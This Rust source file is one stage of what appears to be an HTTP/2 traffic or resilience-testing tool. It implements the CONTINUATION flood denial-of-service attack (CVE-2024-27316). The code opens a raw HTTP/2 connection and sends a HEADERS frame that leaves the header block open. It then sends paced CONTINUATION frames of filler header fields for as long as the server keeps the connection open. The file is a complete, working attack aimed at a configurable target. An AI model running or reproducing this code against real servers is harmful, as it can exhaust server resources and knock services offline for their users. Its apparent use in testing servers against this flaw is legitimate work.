//! Behaviours stage: `continuation-flood` (CVE-2024-27316 and its kin): on an HTTP/2
//! connection of its own frames (`rawh2`), one request's HEADERS without END_HEADERS, then
//! CONTINUATION frames without it, `frames_per_s`, for as long as the connection lasts. Each
//! frame's payload is whole header fields (literals `x-a` of 64 bytes, not indexed), so a
//! server decoding as the frames come gets real fields, and one buffering the block until
//! its end buffers them all. One exchange is one connection, held until the server ends it
//! (its GOAWAY: `h2_goaway`; its close: `closed`) or the run does; its one stream counts in
//! `streams_opened`.

use std::time::Duration;

use super::rawh2::{self, Answer};
use super::{Attempt, Behaviour};
use crate::client::Client;
use crate::h2frames::{frame, new_name_literal, request_block, CONTINUATION, END_STREAM, HEADERS};
use crate::plan::{ContinuationFloodSpec, ValidPlan, FIELD_BYTES};
use crate::stats::ErrorKind;

pub(crate) struct ContinuationFlood {
    /// The opening HEADERS frame, its block left open.
    headers: Vec<u8>,
    /// One CONTINUATION frame, every one the same.
    continuation: Vec<u8>,
    frames_per_s: f64,
}

impl ContinuationFlood {
    pub fn new(plan: &ValidPlan, spec: &ContinuationFloodSpec) -> ContinuationFlood {
        let target = &plan.target;
        let mut headers = Vec::new();
        let block = request_block(&target.authority, &target.path, target.tls);
        frame(&mut headers, HEADERS, END_STREAM, 1, &block);
        let mut continuation = Vec::new();
        frame(&mut continuation, CONTINUATION, 0, 1, &fields(spec.frame_bytes));
        ContinuationFlood {
            headers,
            continuation,
            frames_per_s: spec.frames_per_s as f64,
        }
    }
}

/// `bytes` of whole header fields (`bytes` a multiple of `FIELD_BYTES`): literals of a new
/// name, not indexed, each `x-a` and a value that makes it `FIELD_BYTES` long.
fn fields(bytes: u64) -> Vec<u8> {
    // The field's own bytes: its type, the name's length, the name, the value's length.
    let value = vec![b'v'; FIELD_BYTES as usize - 6];
    let mut payload = Vec::with_capacity(bytes as usize);
    for _ in 0..bytes / FIELD_BYTES {
        new_name_literal(&mut payload, b"x-a", &value);
    }
    payload
}

impl super::Loop for ContinuationFloodSpec {
    fn build<R: super::Runner>(&self, plan: &ValidPlan, _: usize, runner: R) -> R::Out {
        runner.run(ContinuationFlood::new(plan, self))
    }
}

impl Behaviour for ContinuationFlood {
    type State = ();

    fn timeout(&self) -> Option<Duration> {
        None
    }

    async fn exchange(&self, c: &mut Client, _: &mut (), _: Attempt) -> Result<(), ErrorKind> {
        rawh2::open(c).await?;
        c.send(&self.headers).await?;
        c.ledger().streams_opened(1);
        let frames = |from, to| self.continuation.repeat((to - from) as usize);
        rawh2::paced(c, self.frames_per_s, None, frames, |_, _| {}, Answer::None).await
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_continuation_frames_payload_is_exactly_its_planned_bytes_of_whole_fields() {
        for bytes in [FIELD_BYTES, 16_384] {
            let payload = fields(bytes);
            assert_eq!(payload.len() as u64, bytes);
            assert_eq!(&payload[..6], b"\x00\x03x-a\x3a");
        }
    }
}
